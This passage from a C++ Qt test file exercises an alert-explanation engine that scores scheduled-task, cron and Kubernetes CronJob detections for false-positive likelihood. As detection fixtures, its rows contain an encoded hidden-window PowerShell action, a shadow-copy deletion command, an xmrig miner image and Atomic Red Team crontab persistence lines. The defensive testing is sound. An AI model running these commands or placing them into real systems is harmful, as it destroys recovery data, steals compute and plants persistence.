            {"task_run_as", "NT AUTHORITY\\SYSTEM"}};
        QTest::newRow("Google's updater task as Google registers it")
            << googleTask << QStringList{}
            << QStringList{"software_masquerade:google_update", "encoded_powershell_other_action"} << true;
        QTest::newRow("the same task with an encoded PowerShell action appended")
            << googleTask +
                   Fields{{"task_other_actions", "powershell.exe -w hidden -enc "
                                                 "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA="}}
            << QStringList{"encoded_powershell_other_action", "hidden_window_other_action",
                           "software_masquerade:google_update"}
            << QStringList{"encoded_powershell_action"} << false;
        QTest::newRow("a second action of the product's own program")
            << googleTask +
                   Fields{{"task_other_actions",
                           "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource "
                           "scheduler"}}
            << QStringList{} << QStringList{"software_masquerade:google_update"} << true;
        QTest::newRow("a COM handler beside the product's program")
            << googleTask +
                   Fields{{"task_other_actions", "ComHandler {A6BA00FE-40E8-477C-B713-C64A14F18ADB}"}}
            << QStringList{} << QStringList{"software_masquerade:google_update"} << true;
        QTest::newRow("a miner in a CronJob's sidecar")
            << Fields{{"rule_name", "Kubernetes create cronjobs"},
                      {"rule_source", "raw"},
                      {"platform", "kubernetes"},
                      {"user", "system:serviceaccount:ci:deployer"},
                      {"task_name", "reports/nightly-report"},
                      {"task_action", "python /app/report.py --nightly"},
                      {"container_image", "registry.corp.example/reports:4.2"},
                      {"task_other_actions", "xmrig/xmrig:6.21"}}
            << QStringList{"miner_other_action"} << QStringList{} << false;
        QTest::newRow("shadow copies deleted by an appended action")
            << googleTask + Fields{{"task_other_actions", "cmd.exe /c vssadmin delete shadows /all /quiet"}}
            << QStringList{"recovery_inhibition_other_action", "software_masquerade:google_update"}
            << QStringList{} << false;
    }
    void otherActionsAreChecked() {
        QFETCH(Fields, fields);
        QFETCH(QStringList, counter);
        QFETCH(QStringList, notCounter);
        QFETCH(bool, likelyFalsePositive);
        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
        Prevalence prevalence; // a task on twenty hosts of thirty: no one-off
        prevalence.taskNameHosts = prevalence.taskActionHosts = 20;
        prevalence.workspaceHosts = 30;
        const Explanation e = engine.explain(event(fields), prevalence);
        const QStringList found = ids(e.counterEvidence);
        for (const QString &id : counter)
            QVERIFY2(found.contains(id),
                     qPrintable(id + QStringLiteral(" not in ") + found.join(QLatin1Char(','))));
        for (const QString &id : notCounter)
            QVERIFY2(!found.contains(id),
                     qPrintable(id + QStringLiteral(" in ") + found.join(QLatin1Char(','))));
        for (const EvidenceHit &hit : e.counterEvidence)
            QVERIFY2(!hit.sentence.isEmpty(), qPrintable(hit.id));
        QCOMPARE(e.fpLikelihood >= 50, likelyFalsePositive);
        // The workspace explainer's finder reads the multi-line field alike.
        BulkFinder finder(engine, KnowledgeBase::builtIn());
        std::vector<QByteArray> utf8;
        std::vector<std::string_view> values;
        for (EventField f : finder.fields())
            utf8.push_back(event(fields).value(f).toUtf8());
        for (const QByteArray &u : utf8)
            values.emplace_back(u.constData(), size_t(u.size()));
        QVERIFY(finder.table()[finder.find(values.data())] == engine.find(event(fields)));
    }

    // The first action and another one running the same payload observe one fact: counted once.
    void anActionRepeatedCountsOnce() {
        const QString payload =
            QStringLiteral("powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=");
        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
        const Explanation e = engine.explain(event({{"rule_name", "Windows 4698 Scheduled task created"},
                                                    {"event_code", "4698"},
                                                    {"user", "jdoe"},
                                                    {"task_name", "\\Updater"},
                                                    {"task_action", payload},
                                                    {"task_other_actions", payload}}),
                                             Prevalence());
        const QStringList found = ids(e.counterEvidence);
        QVERIFY(found.contains(QStringLiteral("encoded_powershell_action")));
        QVERIFY(found.contains(QStringLiteral("encoded_powershell_other_action")));
        int encodedTerms = 0; // listed both, counted once
        for (const EvidenceHit &term : e.likelihoodBreakdown)
            encodedTerms +=
                term.id.startsWith(QLatin1String("encoded_powershell_")) && term.points != 0 ? 1 : 0;
        QCOMPARE(encodedTerms, 1);
    }

    // One fact seen in two fields (the schtasks command line and the task action it creates) is
    // listed twice but counted once, at its heaviest predicate.
    void oneFactCountsOnce_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QString>("counted");
        QTest::addColumn<QString>("listedOnly");
        QTest::newRow("a script in Windows\\Temp")
            << Fields{{"rule_name", "Scheduled Task Creation Via Schtasks.EXE"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks /create /tn Reboot /tr C:\\Windows\\Temp\\reboot.cmd /sc once "
                       "/st 23:00 /ru SYSTEM"},
                      {"task_action", "C:\\Windows\\Temp\\reboot.cmd"}}
            << "action_in_world_writable_path"
            << "command_in_world_writable_path";
        QTest::newRow("an encoded PowerShell payload")
            << Fields{{"rule_name", "Scheduled Task Creation Via Schtasks.EXE"},
                      {"process_name", "schtasks.exe"},
                      {"command_line", "schtasks /create /tn U /tr \"powershell.exe -enc "
                                       "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=\" /sc daily"},
                      {"task_action",
                       "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA="}}
            << "encoded_powershell_command"
            << "encoded_powershell_action"; // equal weights: the first listed
    }
    void oneFactCountsOnce() {
        QFETCH(Fields, fields);
        QFETCH(QString, counted);
        QFETCH(QString, listedOnly);
        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
        const Explanation e = engine.explain(event(fields), Prevalence{});
        QVERIFY(ids(e.counterEvidence).contains(counted));
        QVERIFY(ids(e.counterEvidence).contains(listedOnly));
        QHash<QString, int> points;
        int sum = 0;
        for (const EvidenceHit &term : e.likelihoodBreakdown) {
            points.insert(term.id, term.points);
            sum += term.points;
        }
        QVERIFY(points.value(counted) < 0);
        QCOMPARE(points.value(listedOnly, -1), 0);
        QCOMPARE(std::clamp(sum, 0, 100), e.fpLikelihood);
    }

    // Real command lines of the public Atomic Red Team T1053 tests stay on the malicious side.
    void atomicRedTeamStaysMalicious_data() {
        QTest::addColumn<Fields>("fields");
        QTest::newRow("T1053.005 #2 schtasks once")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10"},
                      {"task_name", "\\spawn"},
                      {"task_action", "C:\\windows\\system32\\cmd.exe"},
                      {"host", "lap-eng-06"},
                      {"user", "tnguyen"}};
        QTest::newRow("T1053.005 #1 on logon")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks /create /tn \"T1053_005_OnLogon\" /sc onlogon /tr \"cmd.exe /c calc.exe\""},
                      {"task_name", "\\T1053_005_OnLogon"},
                      {"task_action", "cmd.exe /c calc.exe"},
                      {"host", "lap-eng-06"},
                      {"user", "tnguyen"}};
        QTest::newRow("T1053.006 #1 systemd timer")
            << Fields{{"rule_name", "Linux Service Started Or Enabled"},
                      {"process_name", "systemctl"},
                      {"command_line", "systemctl enable art-timer.timer"},
                      {"parent_command_line",
                       "sh -c systemctl start art-timer.timer; systemctl enable art-timer.timer"},
                      {"host", "lnx-ci-01"},
                      {"user", "root"}};
        QTest::newRow("T1053.003 #1 crontab replaced") << Fields{
            {"rule_name", "Linux Possible Append Cronjob Entry on Existing Cronjob File"},
            {"process_name", "sh"},
            {"command_line",
             "sh -c crontab -l > /tmp/notevil; echo \"* * * * * /tmp/evil.sh\" > /tmp/persistevil && "
             "crontab /tmp/persistevil"},
            {"host", "lnx-ci-01"},
            {"user", "root"}};
        QTest::newRow("T1053.002 #2 at now")
            << Fields{{"rule_name", "At Job Created or Modified"},
                      {"process_name", "at"},
                      {"command_line", "at now + 1 minute"},
                      {"parent_command_line", "sh -c echo \"echo Hello from Atomic Red "
                                              "Team\" | at now + 1 minute"},
                      {"host", "lnx-ci-01"},
                      {"user", "root"}};
    }
    void atomicRedTeamStaysMalicious() {
        QFETCH(Fields, fields);
        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
        Prevalence prevalence; // on one host of a workspace of 58
        prevalence.taskNameHosts = prevalence.taskActionHosts = prevalence.commandLineHosts = 1;
        prevalence.workspaceHosts = 58;
        const Explanation e = engine.explain(event(fields), prevalence);
        QVERIFY2(e.fpLikelihood < 50, qPrintable(QString::number(e.fpLikelihood) + QLatin1Char(' ') +
                                                 ids(e.likelihoodBreakdown).join(QLatin1Char(','))));
    }

    // Prevalence and cross-alert scoring: what the workspace says about an event.
    void workspaceContext_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<int>("taskNameHosts");
        QTest::addColumn<int>("taskActionHosts");
        QTest::addColumn<int>("commandLineHosts");
        QTest::addColumn<QString>("counterOnOtherAlert"); // a task-scoped predicate another alert showed
        QTest::addColumn<QString>("expected");            // a likelihood term that must be there
        QTest::addColumn<QString>("absent");              // ... and one that must not
        const Fields scheduledWscript{
            {"rule_name", "Suspicious Execution via Scheduled Task"},
            {"host", "desk-fin-05"},
            {"process_name", "wscript.exe"},
            {"command_line", "wscript.exe //B //NoLogo \"C:\\ProgramData\\Contoso\\GP\\Connect.vbs\""},
            {"parent_command_line", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"}};
        QTest::newRow("a task's command line on many hosts")
            << scheduledWscript << 0 << 0 << 20 << QString() << "prevalence:command_line_hosts"
            << "prevalence:one_off";
        QTest::newRow("the same task action on many hosts")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"host", "wks-1"},
                      {"task_name", "\\Vendor\\Refresh-3a9f"},
                      {"task_action", "\"C:\\Program Files\\Vendor\\refresh.exe\""}}
            << 1 << 12 << 0 << QString() << "prevalence:task_action_hosts"
            << "prevalence:one_off";
        QTest::newRow("a CronJob has no host: never a one-off")
            << Fields{{"rule_name", "Kubernetes Cron Job Creation"},
                      {"user", "system:serviceaccount:argocd:argocd-application-controller"},
                      {"task_name", "platform/velero-schedule-check"}}
            << 1 << 0 << 0 << QString() << "k8s_cicd_service_account"
            << "prevalence:one_off";
        QTest::newRow("an at job's spool name is never a one-off")
            << Fields{{"rule_name", "At Job Created or Modified"},
                      {"host", "lnx-proxy-01"},
                      {"command_line", "at 23:30"},
                      {"task_name", "/var/spool/cron/atjobs/a000d38e48fda6"}}
            << 1 << 0 << 1 << QString() << "at_job_fixed_time"
            << "prevalence:one_off";
        QTest::newRow("a chosen task name on one host is a one-off")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"host", "wks-1"},
                      {"task_name", "\\Updater"}}
            << 1 << 1 << 1 << QString() << "prevalence:one_off" << QString();
        QTest::newRow("an administrator's task on one host is what administrators make")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"host", "sql-01"},
                      {"user", "adm_okim"},
                      {"task_name", "\\Contoso\\SQLErrorLogCycle"}}
            << 1 << 1 << 1 << QString() << "admin_account"
            << "prevalence:one_off";
        QTest::newRow("... and so is one from a management host")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"host", "adm-jump-01"},
                      {"user", "jdoe"},
                      {"task_name", "\\Contoso\\Cleanup"}}
            << 1 << 1 << 1 << QString() << "management_server_host"
            << "prevalence:one_off";
        QTest::newRow("... and so is one a configuration-management run installs")
            << Fields{{"rule_name", "Systemd Timer Created"},
                      {"host", "hh-lx-edi01"},
                      {"process_name", "ruby"},
                      {"command_line", "/opt/chef/embedded/bin/ruby --disable-gems /usr/bin/chef-client -d"},
                      {"task_name", "/etc/systemd/system/edi-poller.timer"}}
            << 1 << 1 << 1 << QString() << "config_management_process"
            << "prevalence:one_off";
        QTest::newRow("a 4698 record inherits what the creation command showed")
            << Fields{{"rule_name", "WinEvent Scheduled Task Created to Spawn Shell"},
                      {"host", "cm-site-01"},
                      {"user", "adm_okim"},
                      {"task_name", "\\Contoso\\CMCacheMaintenance"}}
            << 1 << 0 << 0 << "encoded_powershell_action"
            << "task_alert:encoded_powershell_action" << QString();
        QTest::newRow("an actor's counter-evidence is not the task's")
            << Fields{{"rule_name", "WinEvent Scheduled Task Created to Spawn Shell"},
                      {"host", "sql-01"},
                      {"task_name", "\\Contoso\\SQLBackupCopy"}}
            << 2 << 0 << 0 << "remote_task_by_non_admin" << QString()
            << "task_alert:remote_task_by_non_admin";
        QTest::newRow("benign evidence outside the rule's notes counts half")
            << Fields{{"rule_name", "Local Scheduled Task Creation"},
                      {"host", "adm-jump-01"},
                      {"user", "adm_okim"}}
            << 0 << 0 << 0 << QString() << "admin_account" << QString();
    }
    void workspaceContext() {
        QFETCH(Fields, fields);
        QFETCH(int, taskNameHosts);
        QFETCH(int, taskActionHosts);
        QFETCH(int, commandLineHosts);
        QFETCH(QString, counterOnOtherAlert);
        QFETCH(QString, expected);
        QFETCH(QString, absent);
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, evaluationSettings());
        Prevalence prevalence;
        prevalence.taskNameHosts = taskNameHosts;
        prevalence.taskActionHosts = taskActionHosts;
        prevalence.commandLineHosts = commandLineHosts;
        prevalence.workspaceHosts = 58;
        const auto other =
            std::find_if(kb.evidence().begin(), kb.evidence().end(),
                         [&](const EvidencePredicate &p) { return p.id == counterOnOtherAlert; });
        for (size_t i = 0; other != kb.evidence().end() && i < engine.evidenceCount(); ++i) {
            if (&engine.evidenceCondition(i) == &other->condition)
                prevalence.taskCounters.set(i);
        }
        const Explanation e = engine.explain(event(fields), prevalence);
        QStringList terms = ids(e.likelihoodBreakdown);
        if (!expected.isEmpty())
            QVERIFY2(terms.contains(expected), qPrintable(terms.join(QLatin1Char(','))));
        if (!absent.isEmpty())
            QVERIFY2(!terms.contains(absent), qPrintable(terms.join(QLatin1Char(','))));
        if (QByteArray(QTest::currentDataTag()).startsWith("benign evidence outside")) {
            // The rule's only note is about installers: an administrator explains none of it.
            for (const EvidenceHit &term : e.likelihoodBreakdown) {
                if (term.id == QLatin1String("admin_account"))
                    QCOMPARE(term.points, 15 / 2);
            }
        }
        int sum = 0;
        for (const EvidenceHit &term : e.likelihoodBreakdown)
            sum += term.points;
        QCOMPARE(e.fpLikelihood, std::clamp(sum, 0, 100));
    }

    // Every predicate of the knowledge base can fire: an event built from its own condition matches.
    void everyPredicateCanFire() {
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        ConditionSettings settings = demoSettings();
        settings.insert(QStringLiteral("trusted_software"), {QStringLiteral("*trusted-tool*")});
        settings.insert(QStringLiteral("admin_groups"), {QStringLiteral("CORP\\Tier1 Admins")});
        int checked = 0;
        for (const EvidencePredicate &p : kb.evidence()) {
            bool buildable = true;
            NormalizedEvent e;
            for (const FieldPredicate &f : p.condition.match) {
                QString value =
                    f.settingName.isEmpty() ? f.values.value(0) : settings.value(f.settingName).value(0);
                if (f.kind == FieldPredicate::Kind::Exists)
                    value =
                        f.values.value(0) == QLatin1String("false") ? QString() : QStringLiteral("10.1.2.3");
                if (f.kind == FieldPredicate::Kind::Regex || f.kind == FieldPredicate::Kind::Cidr)
                    buildable = false; // a regex or network is no sample value
                value.replace(QLatin1Char('*'), QStringLiteral("x"))
                    .replace(QLatin1Char('?'), QStringLiteral("x"));
                e.set(f.field,
                      e.value(f.field).isEmpty() ? value : e.value(f.field) + QLatin1Char(' ') + value);
            }
            if (!buildable || !p.condition.filter.isEmpty())
                continue;
            ++checked;
            QVERIFY2(ConditionMatcher(p.condition, settings).matches(LoweredEvent::from(e)),
                     qPrintable(p.id));
        }
        QVERIFY2(checked >= 20, qPrintable(QString::number(checked)));
    }

    // The demo workspace against its ground truth: the figures the issue sets as targets.
    void demoGroundTruth() {
        const QString path = m_dir.filePath(QStringLiteral("demo.tunebench"));
        QString error;
        QVERIFY2(DemoWorkspace::ensure(path, &error), qPrintable(error));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        const EvaluationReport report = Evaluation::run(workspace.database(), KnowledgeBase::builtIn(),
                                                        QStringLiteral(DEMO_DATA_DIR "/ground_truth.csv"));
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.unmatchedLabels, 0);
        QCOMPARE(report.engine.labelled, 383);
        QVERIFY2(report.engine.top1 >= 0.95, qPrintable(report.toText()));
        QVERIFY2(report.engine.top3 >= 0.98, qPrintable(report.toText()));
        QVERIFY2(report.engine.benignLikely >= 0.85, qPrintable(report.toText()));
        QVERIFY2(report.engine.maliciousLikely <= 0.05, qPrintable(report.toText()));
        QVERIFY2(report.engine.auc >= 0.95, qPrintable(report.toText()));
        QCOMPARE(report.baseline.auc, 0.5);
    }

    // The independent evaluation set (written without looking at the predicates; the knowledge
    // base was later extended where it showed gaps, see docs/EXPLANATIONS.md). It must meet the
    // issue's targets.
    void independentEvaluationSet() {
        const QString path = m_dir.filePath(QStringLiteral("evaluation.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        for (const char *file : {"eval_splunk_notables.csv", "eval_elastic_alerts.ndjson"})
            QVERIFY(Importer(workspace.database())
                        .importFile(QStringLiteral(TEST_DATA_DIR "/evaluation/") + QLatin1String(file), {})
                        .ok());
        {
            Transaction transaction(workspace.database());
            WorkspaceSettings::set(workspace.database(), QStringLiteral("admin_accounts"),
                                   {QStringLiteral("adm_*")}, {});
            WorkspaceSettings::set(workspace.database(), QStringLiteral("management_servers"),
                                   {QStringLiteral("adm-jump-01"), QStringLiteral("adm-jump-02")}, {});
            WorkspaceSettings::set(workspace.database(), QStringLiteral("internal_networks"),
                                   {QStringLiteral("10.0.0.0/8"), QStringLiteral("172.16.0.0/12"),
                                    QStringLiteral("192.168.0.0/16")},
                                   {});
            transaction.commit();
        }
        QVERIFY(WorkspaceExplainer(workspace.database(), KnowledgeBase::builtIn()).run().ok);
        const EvaluationReport report =
            Evaluation::run(workspace.database(), KnowledgeBase::builtIn(),
                            QStringLiteral(TEST_DATA_DIR "/evaluation/labels.csv"));
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.engine.labelled, 850);
        qInfo().noquote() << report.toText();
        QVERIFY2(report.engine.top1 >= 0.95, qPrintable(report.toText()));
        QVERIFY2(report.engine.top3 >= 0.98, qPrintable(report.toText()));
        QVERIFY2(report.engine.auc >= 0.95, qPrintable(report.toText()));
        QVERIFY2(report.engine.benignLikely >= 0.85, qPrintable(report.toText()));
        QVERIFY2(report.engine.maliciousLikely <= 0.05, qPrintable(report.toText()));
    }

    // prevalenceKey folds per-user and per-version parts exactly as the regular expressions it
    // replaced did, on real task names and actions and on random text made of their pieces.
    void prevalenceKeyFoldsLikeItsRegexes_data() {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("key");
        QTest::newRow("GUID in braces") << "GoogleUpdateTaskMachineUA{28398F9F-4BA7-1AB7-AC05-04A56CC6BE18}"
                                        << "googleupdatetaskmachineua{guid}";
        QTest::newRow("SID") << "OneDrive Standalone Update Task-S-1-5-21-3623811015-3361044348-30300820-1013"
                             << "onedrive standalone update task-sid";
        QTest::newRow("version") << "C:\\Program Files\\App\\1.0.2\\up.exe"
                                 << "c:\\program files\\app\\v\\up.exe";
        QTest::newRow("user folder") << "C:\\Users\\jdoe\\AppData\\Local\\x.exe"
                                     << "c:\\users\\*\\appdata\\local\\x.exe";
        QTest::newRow("nothing to fold") << "\\Contoso\\LogRetention"
                                         << "\\contoso\\logretention";
    }
    void prevalenceKeyFoldsLikeItsRegexes() {
        QFETCH(QString, value);
        QFETCH(QString, key);
        QCOMPARE(prevalenceKey(value), key);
        QCOMPARE(prevalenceKeyByRegex(value), key);
        QRandomGenerator random(20261201);
        const QStringList pieces{"{",
                                 "}",
                                 "-",
                                 ".",
                                 "\\",
                                 "s-1-",
                                 "5",
                                 "21",
                                 "0123abcd",
                                 "-4ba7",
                                 "users",
                                 "\\users\\",
                                 "a",
                                 "Z",
                                 "9.",
                                 "{28398f9f-4ba7-1ab7-ac05-04a56cc6be18}",
                                 " ",
                                 QStringLiteral("\u00c9"),
                                 QStringLiteral("\u212a")};
        for (int round = 0; round < 3000; ++round) {
            QString text = value.left(int(random.bounded(value.size() + 1)));
            for (int i = int(random.bounded(8)); i > 0; --i)
                text += pieces[random.bounded(pieces.size())];
            QCOMPARE(prevalenceKey(text), prevalenceKeyByRegex(text));
            const QByteArray utf8 = text.toUtf8();
            QCOMPARE(QByteArray::fromStdString(
                         prevalenceKeyUtf8(std::string_view(utf8.constData(), size_t(utf8.size())))),
                     prevalenceKey(text).toUtf8());
        }
    }

    // Explaining a workspace in bulk finds exactly what the engine finds event by event.
    void bulkFinderFindsWhatTheEngineFinds_data() {
        QTest::addColumn<bool>("withSettings");
        QTest::newRow("no settings") << false;
        QTest::newRow("analyst settings") << true;
    }
    void bulkFinderFindsWhatTheEngineFinds() {
        QFETCH(bool, withSettings);
        ConditionSettings settings;
        if (withSettings) {
            settings = evaluationSettings();
            settings.insert(QStringLiteral("trusted_software"), {QStringLiteral("*Contoso*")});
        }
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, settings);
        BulkFinder finder(engine, kb);
        const auto events = allEvents(mixedWorkspace().database());
        QVERIFY2(events.size() > 1100, qPrintable(QString::number(events.size())));
        int withEvidence = 0;
        for (const auto &[id, event] : events) {
            std::vector<QByteArray> utf8;
            std::vector<std::string_view> values;
            for (EventField f : finder.fields())
                utf8.push_back(event.value(f).toUtf8());
            for (const QByteArray &u : utf8)
                values.emplace_back(u.constData(), size_t(u.size()));
            const EventFindings bulk = finder.table()[finder.find(values.data())];
            const EventFindings single = engine.find(event);
            QVERIFY2(bulk == single, qPrintable(QStringLiteral("event %1").arg(id)));
            withEvidence += single.evidence.any() ? 1 : 0;
        }
        QVERIFY(withEvidence > events.size() / 2);
    }

    // Alerts about one task share its counter-evidence: the task is its own name on its machine, in
    // any case and with or without the root folder's backslash; two GUID-named tasks on one host are
    // two tasks (the folded prevalence key would make them one).
    void taskOnHostIsTheTasksOwnName_data() {
        QTest::addColumn<QString>("taskA");
        QTest::addColumn<QString>("hostA");
        QTest::addColumn<QString>("taskB");
        QTest::addColumn<QString>("hostB");
        QTest::addColumn<bool>("same");
        QTest::newRow("same name, same host") << "\\Contoso\\Backup"
                                              << "srv-1"
                                              << "\\Contoso\\Backup"
                                              << "srv-1" << true;
        QTest::newRow("case and the root backslash") << "\\Contoso\\Backup"
                                                     << "srv-1"
                                                     << "contoso\\BACKUP"
                                                     << "srv-1" << true;
        QTest::newRow("another host") << "\\Contoso\\Backup"
                                      << "srv-1"
                                      << "\\Contoso\\Backup"
                                      << "srv-2" << false;
        QTest::newRow("two GUID-named tasks") << "\\{88F1C7F2-5722-6D58-B380-AC1F2AA4A413}"
                                              << "srv-1"
                                              << "\\{B5A4E111-14BD-49F5-37DF-A83A4923BE21}"
                                              << "srv-1" << false;
        QTest::newRow("two versions in the name") << "\\Vendor Update 1.2"
                                                  << "srv-1"
                                                  << "\\Vendor Update 1.3"
                                                  << "srv-1" << false;
    }
    void taskOnHostIsTheTasksOwnName() {
        QFETCH(QString, taskA);
        QFETCH(QString, hostA);
        QFETCH(QString, taskB);
        QFETCH(QString, hostB);
        QFETCH(bool, same);
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, {});
        BulkFinder finder(engine, kb);
        auto key = [&finder](const QString &task, const QString &host) {
            std::vector<QByteArray> utf8;
            for (EventField f : finder.fields())
                utf8.push_back(f == EventField::TaskName ? task.toUtf8()
                               : f == EventField::Host   ? host.toUtf8()
                                                         : QByteArray());
            std::vector<std::string_view> values;
            for (const QByteArray &u : utf8)
                values.emplace_back(u.constData(), size_t(u.size()));
            return finder.prevalenceKeys(values.data()).taskOnHost;
        };
        QCOMPARE(key(taskA, hostA) == key(taskB, hostB), same);
    }

    // The stored results equal explaining each event alone with its prevalence counted in SQL;
    // the stored evidence renders the same sentences.
    void workspaceExplainerEqualsOneByOne() {
        Database &db = mixedWorkspace().database();
        {
            Transaction transaction(db);
            const ConditionSettings settings = evaluationSettings();
            for (auto it = settings.cbegin(); it != settings.cend(); ++it)
                WorkspaceSettings::set(db, it.key(), it.value(), {});
            transaction.commit();
        }
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        QVERIFY(WorkspaceExplainer(db, kb).run().ok);
        // The prevalence and the task-alert counters, counted the plain way.
        const ExplanationEngine engine(kb, evaluationSettings());
        const auto events = allEvents(db);
        QHash<QString, QSet<QString>> taskHosts, actionHosts, commandHosts;
        QHash<QString, std::bitset<256>> taskCounters;
        for (const auto &[id, event] : events) {
            const QString host = event.value(EventField::Host);
            if (!host.isEmpty() && !event.value(EventField::TaskName).isEmpty())
                taskHosts[prevalenceKey(event.value(EventField::TaskName))].insert(host);
            if (!host.isEmpty() && !event.value(EventField::TaskAction).isEmpty())
                actionHosts[prevalenceKey(event.value(EventField::TaskAction))].insert(host);
            if (!host.isEmpty() && !event.value(EventField::CommandLine).isEmpty())
                commandHosts[prevalenceKey(event.value(EventField::CommandLine))].insert(host);
            if (isChosenTaskName(event.value(EventField::TaskName)))
                taskCounters[taskOnHost(event)] |= engine.taskCounters(engine.find(event));
        }
        const int hosts = int(db.queryInt(QStringLiteral("SELECT count(DISTINCT host) FROM events")));
        Statement assessment = db.prepare(QStringLiteral(
            "SELECT a.fp_likelihood, x.counter_evidence, x.fp_likelihood, a.top_note_id, x.top_note_id, "
            "x.counter_points, x.likelihood_terms FROM event_assessments a JOIN explanation_sets x ON x.id = "
            "a.set_id "
            "WHERE a.event_id = ?1"));
        Statement notes = db.prepare(QStringLiteral(
            "SELECT note_id, score, evidence FROM event_explanations WHERE event_id = ?1 ORDER BY rank"));
        int withTaskAlerts = 0;
        for (const auto &[id, event] : events) {
            const QString task = prevalenceKey(event.value(EventField::TaskName));
            const QString action = prevalenceKey(event.value(EventField::TaskAction));
            const QString command = prevalenceKey(event.value(EventField::CommandLine));
            Prevalence prevalence;
            prevalence.taskNameHosts = task.isEmpty() ? 0 : int(taskHosts.value(task).size());
            prevalence.taskActionHosts = action.isEmpty() ? 0 : int(actionHosts.value(action).size());
            prevalence.commandLineHosts = command.isEmpty() ? 0 : int(commandHosts.value(command).size());
            prevalence.workspaceHosts = hosts;
            prevalence.taskCounters = isChosenTaskName(event.value(EventField::TaskName))
                                          ? taskCounters.value(taskOnHost(event))
                                          : std::bitset<256>();
            const Explanation expected = engine.explain(event, prevalence);
            for (const EvidenceHit &hit : expected.counterEvidence)
                withTaskAlerts += hit.id.startsWith(QLatin1String("task_alert:")) ? 1 : 0;
            assessment.bind(1, id);
            QVERIFY(assessment.step());
            QCOMPARE(int(assessment.columnInt64(0)), expected.fpLikelihood);
            QCOMPARE(int(assessment.columnInt64(2)), expected.fpLikelihood); // the shared set's
            const QString topNote = expected.notes.isEmpty() ? QString() : expected.notes.front().noteId;
            QCOMPARE(assessment.columnText(3), topNote); // the event's copy, for sorting
            QCOMPARE(assessment.columnText(4), topNote);
            const QList<StoredEvidence> counter = StoredEvidence::read(assessment.columnText(1), kb, event);
            QCOMPARE(counter.size(), expected.counterEvidence.size());
            int counterPoints = 0;
            for (qsizetype i = 0; i < counter.size(); ++i) {
                QCOMPARE(counter[i].id, expected.counterEvidence[i].id);
                QCOMPARE(counter[i].sentence, expected.counterEvidence[i].sentence);
                counterPoints += expected.counterEvidence[i].points;
            }
            QCOMPARE(int(assessment.columnInt64(5)), counterPoints);
            // Every point of the likelihood is stored with the evidence it comes from.
            const QList<StoredEvidence> terms = StoredEvidence::read(assessment.columnText(6), kb, event);
            QCOMPARE(terms.size(), expected.likelihoodBreakdown.size());
            int sum = 0;
            for (qsizetype i = 0; i < terms.size(); ++i) {
                QCOMPARE(terms[i].id, expected.likelihoodBreakdown[i].id);
                QCOMPARE(terms[i].sentence, expected.likelihoodBreakdown[i].sentence);
                sum += terms[i].points;
            }
            QCOMPARE(std::clamp(sum, 0, 100), expected.fpLikelihood);
            assessment.reset();
            notes.bind(1, id);
            qsizetype rank = 0;
            while (notes.step()) {
                QVERIFY2(rank < expected.notes.size(), qPrintable(QStringLiteral("event %1").arg(id)));
                const NoteExplanation &n = expected.notes.at(rank++);
                QCOMPARE(notes.columnText(0), n.noteId);
                QCOMPARE(int(notes.columnInt64(1)), n.score);
                const QList<StoredEvidence> evidence = StoredEvidence::read(notes.columnText(2), kb, event);
                QCOMPARE(evidence.size(), n.evidence.size());
                for (qsizetype i = 0; i < evidence.size(); ++i) {
                    QCOMPARE(evidence[i].sentence, n.evidence[i].sentence);
                    QCOMPARE(evidence[i].points, n.evidence[i].points);
                }
            }
            notes.reset();
            QCOMPARE(rank, std::min<qsizetype>(expected.notes.size(), WorkspaceExplainer::KeptNotes));
        }
        QVERIFY(withTaskAlerts > 0); // the cross-alert path was exercised
        // Events share sets, and each set is stored once: no two have the same content.
        const qint64 sets = db.queryInt(QStringLiteral("SELECT count(*) FROM explanation_sets"));
        QVERIFY(sets > 1);
        QVERIFY(sets < qint64(events.size()));
        QCOMPARE(db.queryInt(QStringLiteral(
                     "SELECT count(*) FROM (SELECT DISTINCT x.fp_likelihood, x.counter_evidence, "
                     "x.likelihood_terms, "
                     "(SELECT group_concat(n.note_id || ' ' || n.score || ' ' || n.evidence, '|') FROM "
                     "(SELECT * FROM explanation_set_notes n WHERE n.set_id = x.id ORDER BY n.rank) n) "
                     "FROM explanation_sets x)")),
                 sets);
    }

    // Reading in rowid ranges on several threads, each counting prevalence as its ranges come,
